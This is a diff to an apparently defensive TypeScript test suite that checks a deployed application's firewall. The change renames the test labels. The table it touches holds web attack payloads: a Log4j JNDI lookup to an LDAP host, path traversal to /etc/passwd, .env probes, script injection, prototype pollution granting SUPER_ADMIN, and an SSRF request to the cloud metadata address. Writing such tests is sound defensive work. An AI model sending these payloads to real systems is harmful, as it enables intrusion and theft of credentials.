@@ -12,14 +12,14 @@ const LOOK_UP = `\${jndi:ldap://203.0.113.66/a}`;
 
 /** What AWS's rules for bad inputs and common attacks look for, by what the front does with it. */
 const ATTACKS: Readonly<Record<string, Partial<ViewerRequest>>> = {
-  'a look-up of Log4j in a header': { headers: { ...me.headers, 'user-agent': LOOK_UP } },
-  'a look-up of Log4j in the query': { query: `x=${encodeURIComponent(LOOK_UP)}` },
+  'a Log4j lookup in a header': { headers: { ...me.headers, 'user-agent': LOOK_UP } },
+  'a Log4j lookup in the query': { query: `x=${encodeURIComponent(LOOK_UP)}` },
   'a serialized Java object': { ...login, body: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' },
-  'a method of WebDAV': { method: 'PROPFIND' },
+  'a WebDAV method': { method: 'PROPFIND' },
   'a path out of the folder': { path: '/api/../../../../etc/passwd' },
   'an encoded path out of the folder': { path: '/api/user/%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
-  'a file of secrets': { path: '/api/.env' },
-  'an administration of others': { path: '/api/wp-admin/setup-config.php' },
+  'a secrets file': { path: '/api/.env' },
+  'another product’s admin page': { path: '/api/wp-admin/setup-config.php' },
   'a script in the query': { query: `x=${encodeURIComponent(SCRIPT)}` },
   'a script in the path': { path: `/api/${encodeURIComponent(SCRIPT)}` },
   'a script in a body': { ...login, body: JSON.stringify({ email: SCRIPT, password: 'x' }) },
@@ -28,12 +28,12 @@ const ATTACKS: Readonly<Record<string, Partial<ViewerRequest>>> = {
     ...login,
     body: '{"__proto__":{"role":"SUPER_ADMIN"},"email":"a@example.it","password":"x"}',
   },
-  'an address of the account’s own metadata': { query: 'url=http://169.254.169.254/latest/' },
+  'the address of the instance metadata': { query: 'url=http://169.254.169.254/latest/' },
   'a body that is too large': { ...login, body: JSON.stringify({ email: 'x'.repeat(70_000) }) },
   'no user agent': { headers: {} },
 };
 
-describe('an attack that the firewall’s rules for contents would block', () => {
+describe('an attack that the firewall’s content rules would block', () => {
   it.each(Object.entries(ATTACKS))('changes nothing and is not echoed: %s', async (_, attack) => {
     const { account } = await deployed();
     const before = await account.items();
